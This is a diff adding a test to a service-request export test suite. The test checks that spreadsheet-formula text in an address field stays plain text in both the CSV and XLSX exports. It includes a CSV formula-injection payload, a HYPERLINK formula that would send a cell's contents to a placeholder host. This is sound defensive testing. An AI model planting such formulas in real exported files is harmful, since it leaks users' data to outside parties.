@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 from decimal import Decimal
@@ -61,6 +62,22 @@ class ExportTests(RegionTestCase):
         rows = list(workbook["requests"].iter_rows(values_only=True))
         self.assertEqual(rows[0][:2], ("id", "service_code"))
         self.assertEqual(len(rows), 4)
+
+    def test_a_text_that_looks_like_a_formula_stays_text_in_both_formats(self) -> None:
+        address = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+        ServiceRequest.objects.filter(region=self.region).update(address=address)
+        ServiceRequest.objects.filter(pk=ServiceRequest.objects.filter(region=self.region).first().pk).update(
+            address="-7 RT 03"  # a minus, an at sign, a plus: also how formulas start
+        )
+        self.client.force_login(self.officer)
+        body = b"".join(self.client.get(self.url("export_csv")).streaming_content).decode()
+        cells = [row[12] for row in csv.reader(io.StringIO(body.lstrip("\ufeff")))][1:]
+        self.assertEqual(sorted(cells), sorted(["'-7 RT 03", "'" + address, "'" + address]))
+        response = self.client.get(self.url("export_xlsx"))
+        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+        column = [row[12] for row in workbook["requests"].iter_rows(min_row=2)]
+        self.assertEqual(sorted(c.value for c in column), sorted(["-7 RT 03", address, address]))
+        self.assertEqual({c.data_type for c in column}, {"s"})  # text, never a formula
 
     def test_it_refuses_agency_staff_and_citizens(self) -> None:
         for user in (self.operator, self.citizen):
